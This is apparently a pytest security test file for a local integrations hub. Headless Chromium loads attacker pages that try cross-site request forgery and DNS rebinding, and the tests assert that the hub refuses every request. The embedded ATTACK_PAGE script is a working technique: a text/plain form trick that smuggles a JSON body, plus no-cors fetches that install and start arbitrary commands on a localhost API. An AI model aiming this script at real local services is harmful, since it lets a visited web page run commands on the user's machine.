"""What a hostile web page can make the user's own browser do to the hub: a real headless
Chromium visits a page on another origin (a cross-site request forgery) or on a name that
rebinds to the hub's address (DNS rebinding), and tries to read the integrations and to
install and start a command. The hub must answer none of it; the controls prove each
harness would have caught an attack that worked."""

from __future__ import annotations

import json
import re
import shutil
import sys
import uuid
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.browser import CHROMIUM, Attacker, attacker_site, chromium
from tests.helpers import live_children, wait_until
from tests.serve import Served, serve

needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM} (.ci/run installs it)"
)

EVIL = "evil.example"  # any site the user visits; resolved to 127.0.0.1 by Chromium only
REBINDING = "attacker.example"  # the rebinding site: its server on 127.0.0.2, same port as the hub
TOUCH = shutil.which("touch") or "/usr/bin/touch"

ATTACK_PAGE = """<!doctype html>
<meta charset="utf-8">
<title>cute cats</title>
<body>
<script>
const cfg = __CONFIG__;
const report = {};

const installBody = (id) =>
  JSON.stringify({source: "command", id, command: cfg.commands[id]});

async function outcome(request) {
  try {
    const response = await request;
    if (response.type === "opaque") return {opaque: true};
    return {status: response.status, body: await response.text()};
  } catch (e) {
    return {error: String(e)};
  }
}

// A text/plain form sends "name=value": a name that opens a string and a value that closes
// it make the body JSON. The answer loads into a hidden iframe, out of the page's reach.
function submitForm(action, id) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink-" + Math.random().toString(36).slice(2);
    document.body.appendChild(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", action, target: frame.name});
    if (id) {
      const body = JSON.stringify(
        {source: "command", id, command: cfg.commands[id], pad: ""});
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name: body.slice(0, -2), value: '"}'});
      form.appendChild(input);
    }
    document.body.appendChild(form);
    frame.addEventListener("load", () => resolve({loaded: true}), {once: true});
    form.submit();
  });
}

async function crossSite(hub) {
  const json = {"Content-Type": "application/json"};
  report.read = await outcome(fetch(hub + "/integrations"));
  report.nocors_install = await outcome(fetch(hub + "/integrations/install", {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: installBody("nocors")}));
  report.nocors_start = await outcome(
    fetch(hub + "/integrations/nocors/start", {method: "POST", mode: "no-cors"}));
  report.form_install = await submitForm(hub + "/integrations/install", "form");
  report.form_start = await submitForm(hub + "/integrations/form/start", null);
  report.cors_install = await outcome(fetch(hub + "/integrations/install", {
    method: "POST", headers: json, body: installBody("cors")}));
  report.cors_start = await outcome(fetch(hub + "/integrations/cors/start", {method: "POST"}));
}

async function rebound() {
  report.read = await outcome(fetch("/integrations"));
  report.install = await outcome(fetch("/integrations/install", {
    method: "POST", headers: {"Content-Type": "application/json"},
    body: installBody("rebound")}));
  report.start = await outcome(fetch("/integrations/rebound/start", {method: "POST"}));
}

(async () => {
  try {
    await (cfg.hub ? crossSite(cfg.hub) : rebound());
  } catch (e) {
    report.failure = String(e);
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
</script>
"""

ACCESS_LINE = re.compile(r'"(?P<method>[A-Z]+) (?P<path>\S+) HTTP/[\d.]+" (?P<status>\d{3})')


@dataclass
class Scene:
    """One attack: the hub, the files its commands would create, and where to look."""

    hub: Served
    markers: dict[str, Path]
    hub_log: Path
    workdir: Path

    def page(self, hub_url: str | None) -> str:
        commands = {id_: [TOUCH, str(path)] for id_, path in self.markers.items()}
        config = {"hub": hub_url, "commands": commands}
        return ATTACK_PAGE.replace("__CONFIG__", json.dumps(config))

    def ran(self) -> set[str]:
        """The integrations whose command ran."""
        return {id_ for id_, path in self.markers.items() if path.exists()}

    def installed(self) -> list[str]:
        """What the hub lists, asked the way the hub's own clients ask."""
        response = self.hub.http.get("/integrations")
        assert response.status_code == 200, response.text
        return [i["id"] for i in response.json()["integrations"]]

    def answered(self, method: str, path: str) -> list[int]:
        """The statuses the hub answered ``method path`` with, from its access log."""
        return [
            int(m["status"])
            for m in ACCESS_LINE.finditer(self.hub_log.read_text(errors="replace"))
            if (m["method"], m["path"]) == (method, path)
        ]

    def await_answers(self, method: str, path: str, count: int = 1) -> list[int]:
        """Once the access log shows ``count`` answers to ``method path`` (it is written just
        after the answer is sent), those statuses."""
        return list(
            wait_until(
                lambda: len(found := self.answered(method, path)) >= count and found,
                what=f"{count} answers to {method} {path} in the hub's log",
            )
        )


@contextmanager
def scene(tmp_path: Path, ids: list[str], args: list[str] | None = None) -> Iterator[Scene]:
    """A hub (its own data dir and log) and a unique marker file per integration id."""
    token = uuid.uuid4().hex
    markers = {id_: tmp_path / f"pwned-{id_}-{token}" for id_ in ids}
    log = tmp_path / "hub.log"
    with serve(sys.executable, tmp_path / "data", args=args or [], log=log) as hub:
        yield Scene(hub, markers, log, tmp_path)
    assert not live_children("mcp_integrations")


def visit(scene: Scene, attacker: Attacker, url: str, **resolve: str) -> dict[str, Any]:
    """Chromium opens ``url``; the page's report, once Chromium is gone again."""
    with chromium(url, scene.workdir / "browser", resolve=resolve) as browser:
        report = attacker.wait_report(browser)
    assert not live_children(CHROMIUM.name)
    return report


CROSS_SITE_IDS = ["nocors", "form", "cors"]


def test_control_a_json_install_from_a_program_runs_the_command(tmp_path: Path) -> None:
    """Control: the hub's own kind of client (JSON, no Origin) can install and start a
    command, and the marker file then exists -- so its absence below means the attack
    failed, not that the harness could not see it."""
    with scene(tmp_path, ["direct"]) as s:
        body = {"source": "command", "id": "direct", "command": [TOUCH, str(s.markers["direct"])]}
        response = s.hub.http.post("/integrations/install", json=body)
        assert response.status_code == 201, response.text
        response = s.hub.http.post("/integrations/direct/start")
        assert response.status_code == 502, response.text  # touch is no MCP server...
        assert s.ran() == {"direct"}  # ...but it ran


@needs_chromium
def test_cross_site_page_cannot_read_install_or_run_a_command(tmp_path: Path) -> None:
    """A page on another site tries a no-cors text/plain fetch, an auto-submitted text/plain
    form and a CORS JSON fetch: every request reaches the hub and is refused, nothing is
    installed, no command runs, and the listing stays unreadable."""
    with ExitStack() as stack:
        s = stack.enter_context(scene(tmp_path, CROSS_SITE_IDS))
        attacker = Attacker(s.page(f"http://127.0.0.1:{s.hub.port}"))
        port = stack.enter_context(attacker_site(attacker))
        report = visit(s, attacker, f"http://{EVIL}:{port}/", **{EVIL: "127.0.0.1"})

        assert "failure" not in report, report
        assert s.ran() == set(), f"the page ran {s.ran()} on the hub: {report}"
        assert "error" in report["read"], report  # the listing is not readable cross-origin
        assert "error" in report["cors_install"], report
        # Every attempt reached the hub (so the page did run) and was refused.
        refusals = {403, 415}
        installs = s.await_answers("POST", "/integrations/install", count=2)
        assert set(installs) <= refusals, installs
        for id_ in CROSS_SITE_IDS:
            starts = s.await_answers("POST", f"/integrations/{id_}/start")
            assert set(starts) == {403}, (id_, starts)
        preflights = s.await_answers("OPTIONS", "/integrations/install")
        assert set(preflights) == {403}, preflights  # the CORS JSON install was never sent
        assert s.installed() == []


@needs_chromium
def test_control_allowed_origin_may_use_the_api_with_json_only(tmp_path: Path) -> None:
    """Control: with ``--allowed-origin`` for that site, the same page can read the listing
    and install and start with a CORS JSON request (the preflight is answered) -- proving
    the cross-site harness reaches the hub -- while its text/plain requests are still
    refused (415) and run nothing."""
    with ExitStack() as stack:
        attacker = Attacker("")
        port = stack.enter_context(attacker_site(attacker))
        origin = f"http://{EVIL}:{port}"
        s = stack.enter_context(scene(tmp_path, CROSS_SITE_IDS, ["--allowed-origin", origin]))
        attacker.page = s.page(f"http://127.0.0.1:{s.hub.port}")
        report = visit(s, attacker, f"{origin}/", **{EVIL: "127.0.0.1"})

        assert "failure" not in report, report
        assert report["read"]["status"] == 200, report
        assert json.loads(report["read"]["body"]) == {"integrations": []}
        assert report["cors_install"]["status"] == 201, report
        assert report["cors_start"]["status"] == 502, report
        installs = s.await_answers("POST", "/integrations/install", count=3)
        assert sorted(installs) == [201, 415, 415], installs
        assert s.ran() == {"cors"}
        assert s.installed() == ["cors"]


@contextmanager
def rebinding(
    tmp_path: Path, args: list[str] | None = None
) -> Iterator[tuple[Scene, Attacker, dict[str, Any]]]:
    """The hub on 127.0.0.1:P; the attacker's server on 127.0.0.2:P, which Chromium reaches
    as attacker.example:P and which forwards the page's requests to the hub unchanged -- as
    if the name now resolved to 127.0.0.1."""
    with ExitStack() as stack:
        s = stack.enter_context(scene(tmp_path, ["rebound"], args))
        attacker = Attacker(s.page(None), upstream=("127.0.0.1", s.hub.port))
        stack.enter_context(attacker_site(attacker, "127.0.0.2", s.hub.port))
        url = f"http://{REBINDING}:{s.hub.port}/"
        report = visit(s, attacker, url, **{REBINDING: "127.0.0.2"})
        assert "failure" not in report, report
        host = f"{REBINDING}:{s.hub.port}"
        assert attacker.forwarded, "nothing reached the hub"
        assert {e.headers.get("Host") for e in attacker.forwarded} == {host}
        yield s, attacker, report


@needs_chromium
def test_dns_rebinding_page_cannot_read_install_or_run_a_command(tmp_path: Path) -> None:
    """A page whose name rebinds to the hub's address sends same-origin requests with its own
    Host: the hub answers each with 421, so the listing is never readable and no command
    runs."""
    with rebinding(tmp_path) as (s, attacker, report):
        assert s.ran() == set(), f"the rebinding page ran a command on the hub: {report}"
        for step in ("read", "install", "start"):
            assert report[step]["status"] == 421, (step, report)
            error = json.loads(report[step]["body"])["error"]
            assert error["code"] == "misdirected_request", (step, error)
        assert "integrations" not in json.loads(report["read"]["body"])
        # Chromium retries a request answered 421 once, on a fresh connection: each of the
        # three reached the hub (twice), and every answer was 421.
        assert {(e.method, e.path) for e in attacker.forwarded} == {
            ("GET", "/integrations"),
            ("POST", "/integrations/install"),
            ("POST", "/integrations/rebound/start"),
        }
        assert {e.status for e in attacker.forwarded} == {421}
        granted = [k for e in attacker.forwarded for k in e.response_headers]
        assert not [k for k in granted if k.lower().startswith("access-control-")], granted
        assert s.installed() == []


@needs_chromium
def test_control_dns_rebinding_reaches_the_hub_when_its_host_is_allowed(tmp_path: Path) -> None:
    """Control: with ``--allowed-host attacker.example`` the very same page reads the listing
    and runs its command -- proving the rebinding harness really reaches the hub."""
    with rebinding(tmp_path, ["--allowed-host", REBINDING]) as (s, _attacker, report):
        assert report["read"]["status"] == 200, report
        assert json.loads(report["read"]["body"]) == {"integrations": []}
        assert report["install"]["status"] == 201, report
        assert report["start"]["status"] == 502, report
        assert s.ran() == {"rebound"}
